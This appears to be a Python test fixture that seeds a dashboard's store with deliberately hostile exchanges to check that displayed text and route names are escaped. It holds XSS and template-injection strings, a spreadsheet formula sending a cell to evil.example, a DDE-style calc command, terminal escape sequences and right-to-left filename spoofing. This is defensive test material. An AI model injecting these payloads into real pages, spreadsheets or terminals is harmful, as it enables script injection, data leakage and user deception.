"""Exchanges whose texts and route names attack any program that displays them."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import datetime, timedelta

from tests.dashboard.seeding import FINGERPRINTS, LEASE, NOW

from germane.annotation import Feedback, Marker
from germane.exchange import Context, Exchange, sampling_key_for
from germane.score import Score, band_of
from germane.storage import SamplingDecision, TrackingStore

SERVICE = 'h"ost<ile>'
OWNER = "hostile-1"
TEXTS: Mapping[str, str] = {
    "script": '<script>window.__germane_was_here = 1</script><img src=x onerror="window.__germane_was_here=2">',
    "attribute": '" autofocus onfocus="window.__germane_was_here=3" x=\'',
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} </textarea></title></svg><svg onload=alert(1)>",
    "right to left": "the file is \u202egpj.exe\u202c and \u2066this\u2069 is "
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 "
    "\u0e01\u0e33\u0e25\u0e31 \u4f60\u597d z\u0351\u036b\u0343algo",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula behind a tab": "\t+1+1|cmd' /C calc'!A0",
    "slack": "<!channel> <@U123> <http://evil.example|your bank> *bold* `code` &lt;",
    "terminal": "\x1b[31mred\x1b]0;title\x07 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x08\x08\r\x9b2J",
    "markdown": "[x](javascript:alert(1)) ![y](http://evil.example/p.png) | a | b |\n|---|---|",
    "nothing": "\u200b\u200b \u00a0",
    "half a pair": "NUL \x00 and half a pair \ud800",
    "one long word": "x" * 5_000,
    "100 kB": "All work and no play makes <b>Jack</b> a dull boy. " * 2_000,
}
ROUTES = (
    "a/b/../c",
    "quote\"s and 'apostrophes'",
    "<b>angle</b>",
    "100% & more?x=1#y",
    "//evil.example/",
    "\u202eright-to-left",
    "r" * 300,
    " ",
)


def write_hostile_exchanges(store: TrackingStore, now: datetime = NOW) -> list[Exchange]:
    """Write one scored exchange per hostile text, and return them, oldest first."""
    exchanges = [_exchange(number, name, text, now) for number, (name, text) in enumerate(TEXTS.items())]
    store.exchanges.add(exchanges)
    only = {"answer_relevancy": FINGERPRINTS["answer_relevancy"]}
    store.sampling.assign_tasks([SamplingDecision(one.id, 1.0, "sampled") for one in exchanges], only)
    claims = store.queue.claim_tasks(OWNER, only, limit=1_000, lease=LEASE)
    mine = {one.id for one in exchanges}
    results = [
        (task, _score(claim.exchange, task.fingerprint, number))
        for number, claim in enumerate(claims)
        for task in claim.tasks
        if claim.exchange.id in mine
    ]
    store.queue.complete_tasks(OWNER, results)
    store.queue.release_tasks(OWNER)
    labels = [
        Feedback(
            id=f"hostile-{one.id}",
            exchange_id=one.id,
            score=0.0,
            comment=one.answer and one.answer[:400],
            user=TEXTS["script"],
            created_at=now,
        )
        for one in exchanges
    ]
    store.labels.add_feedback(labels)
    mark = Marker(
        id="hostile", name=TEXTS["script"], service=SERVICE, at=now - timedelta(hours=1), attributes={"a": "<b>"}
    )
    store.trends.add_markers([mark])
    return exchanges


def _exchange(number: int, name: str, text: str, now: datetime) -> Exchange:
    at = now - timedelta(minutes=10 + number)
    trace = f"{number + 1:032x}"
    return Exchange(
        id=f"{int(at.timestamp() * 1000):012x}{number:020x}",
        trace_id=trace,
        span_id=trace[:16],
        service=SERVICE,
        route=ROUTES[number % len(ROUTES)],
        question=text if number % 2 else f"What is {name}?",
        answer=text,
        contexts=(Context(text=text, id=text[:100], score=0.5), Context(text="a plain one")),
        model=TEXTS["script"],
        prompt_version=TEXTS["attribute"],
        user=TEXTS["slack"],
        session=TEXTS["terminal"],
        attributes={TEXTS["script"]: TEXTS["attribute"]},
        started_at=at,
        duration=0.5,
        sampling_key=sampling_key_for(trace),
    )


def _score(exchange: Exchange, fingerprint: str, number: int) -> Score:
    text, value = exchange.answer or "", 0.02 + number / 40
    near = ({"text": text[:500], "similarity": value, "noncommittal": None},) * 3
    return Score(
        scorer="answer_relevancy",
        fingerprint=fingerprint,
        value=value,
        label=band_of(value),
        explanation=text[:300],
        details={"questions": list(near), "requested": 3, "usable": 3, "similarity": "embedding"},
        judge=TEXTS["script"],
        embedder=TEXTS["attribute"],
        cost=0.0001,
        latency=0.7,
        scored_at=exchange.started_at + timedelta(seconds=20),
    )
